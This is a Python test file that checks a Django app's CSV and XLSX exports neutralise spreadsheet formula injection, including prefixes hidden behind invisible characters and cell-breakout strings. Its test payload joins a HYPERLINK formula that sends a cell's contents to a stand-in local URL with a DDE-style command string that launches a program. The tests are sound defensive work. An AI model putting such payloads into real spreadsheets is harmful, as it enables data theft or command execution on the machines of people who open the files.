"""Formulas in exported tables: in no cell, heading or title, whatever hides them."""

import csv
import io
import itertools
import unicodedata
import zipfile
from collections.abc import Sequence
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from core.spreadsheets import Column, Kind, read_table, safe_csv_text, table_response
from tests.core.hostile_files import MAIN

pytestmark = pytest.mark.once

STARTS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠")
# what a program may skip before it looks for a formula, or what we take out
HIDDEN_BEHIND = (
    "",
    " ",
    "   ",
    "\t",
    "\r\n",
    "\n",
    "\u00a0",
    "\u1680",
    "\u2003",
    "\u2007",
    "\u2028",
    "\u202f",
    "\u3000",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\ufeff",
    "\x00",
    "\x0b",
    "\x1f",
    "\x85",
    "\ud800",
    "\uffff",
    "\x00 \u200b\t",
)
BODY = 'HYPERLINK("http://127.0.0.1:9/?x="&A1;"x")|\' /C calc\'!A0'
PREFIXES = [
    hidden + start for start, hidden in itertools.product(STARTS, HIDDEN_BEHIND)
]
DANGERS = [prefix + BODY for prefix in PREFIXES]
BREAKOUTS = [
    'x";=1+1;"',
    '";=1+1',
    "x;=1+1",
    "x\r\n=1+1",
    'x"\r\n=1+1;"',
    "x\r=1+1",
    "\u2028=1+1\u2028",
    '"=1+1"',
]


@pytest.fixture(autouse=True)
def closing_a_response_looks_at_the_database(db: None) -> None:
    """Django's end-of-request signal does; the tables themselves need no database."""


def export(
    values: Sequence[Any], kind: str, *, head: str = "n", as_kind: Kind = "text"
) -> bytes:
    """One column of values, after a column of numbers."""
    columns = [Column("№", lambda _row: 1, "number"), Column(head, str, as_kind)]
    if as_kind != "text":
        columns[1] = Column(head, lambda row: row, as_kind)
    response = table_response(
        RequestFactory().get("/"),
        name="t",
        title=head,
        columns=columns,
        rows=values,
        kind=kind,
    )
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    response.close()
    return content


def shown(text: str) -> str:
    """What XML and a spreadsheet can hold of a text."""
    return "".join(
        letter
        for letter in text
        if letter in "\t\r\n"
        or not (
            ord(letter) < 32
            or unicodedata.category(letter) == "Cs"
            or letter in "\ufffe\uffff"
        )
    )


def column_of(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert {len(row) for row in rows} == {2}
    return [row[1] for row in rows]


def cells_of(content: bytes) -> list[tuple[str | None, str | None]]:
    """Type and text of the cells of the second column, from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
    assert list(root.iter(f"{{{MAIN}}}f")) == []
    return [
        (cell.get("t"), "".join(cell.itertext()))
        for cell in root.iter(f"{{{MAIN}}}c")
        if (cell.get("r") or "").startswith("B")
    ]


def test_there_are_enough_of_them() -> None:
    assert len(set(PREFIXES)) == len(STARTS) * len(HIDDEN_BEHIND) == 250


def test_no_prefix_is_live_in_csv() -> None:
    assert column_of(export(DANGERS, "csv")) == ["n"] + [
        f"'{shown(danger)}" for danger in DANGERS
    ]


def test_no_prefix_is_live_in_csv_in_a_column_of_numbers() -> None:
    for as_kind in ("number", "money", "date"):
        found = column_of(export(DANGERS, "csv", as_kind=as_kind))
        assert found == ["n"] + [f"'{shown(danger)}" for danger in DANGERS]


def lines(text: str) -> str:
    """XML reads all line ends as one."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("as_kind", ["text", "number", "money", "date"])
def test_no_prefix_is_live_in_xlsx(as_kind: Kind) -> None:
    content = export(DANGERS, "xlsx", as_kind=as_kind)
    found = [(kind, lines(text or "")) for kind, text in cells_of(content)]
    assert found == [("inlineStr", "n")] + [
        ("inlineStr", lines(shown(danger))) for danger in DANGERS
    ]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert {cell.data_type for cell in sheet["B"]} == {"s"}


def test_no_heading_and_no_title_is_live() -> None:
    for danger in DANGERS:
        (heading,) = column_of(export([], "csv", head=danger))
        assert heading == f"'{shown(danger)}"
        content = export([], "xlsx", head=danger)
        ((kind, text),) = cells_of(content)
        assert (kind, lines(text or "")) == ("inlineStr", lines(shown(danger)))
        (title,) = load_workbook(io.BytesIO(content)).sheetnames
        assert 1 <= len(title) <= 31
        assert set(title) & set("[]:*?/\\\r\n\t") == set()


@pytest.mark.parametrize("text", BREAKOUTS)
def test_no_text_leaves_its_cell(text: str) -> None:
    assert column_of(export([text], "csv")) == ["n", safe_csv_text(text)]
    (_head, (kind, found)) = cells_of(export([text], "xlsx"))
    assert (kind, lines(found or "")) == ("inlineStr", lines(text))


def test_what_was_exported_is_read_back() -> None:
    texts = [text for text in DANGERS if text.isprintable()]
    assert len(texts) == len(STARTS) * 3
    for kind in ("csv", "xlsx"):
        rows = read_table(io.BytesIO(export(texts, kind)), max_rows=100, max_columns=2)
        assert [row[1] for row in rows[1:]] == texts


@pytest.mark.parametrize(
    "number", [Decimal("-0.5"), -3, 0, Decimal("1e3"), 12.5, Decimal("999999999999.99")]
)
def test_numbers_are_no_formulas(number: Any) -> None:
    found = column_of(export([number], "csv", as_kind="number"))
    assert (found[0], Decimal(found[1])) == ("n", Decimal(str(number)))
    assert cells_of(export([number], "xlsx", as_kind="number"))[1][0] == "n"


@pytest.mark.parametrize("number", [float("inf"), float("nan"), Decimal("NaN")])
def test_a_number_that_is_none_breaks_no_book(number: Any) -> None:
    """Excel refuses a whole book for one `NaN` among its numbers."""
    kind, text = cells_of(export([number], "xlsx", as_kind="number"))[1]
    assert (kind, text) == ("n", "")
    assert column_of(export([number], "csv", as_kind="number")) == ["n", str(number)]
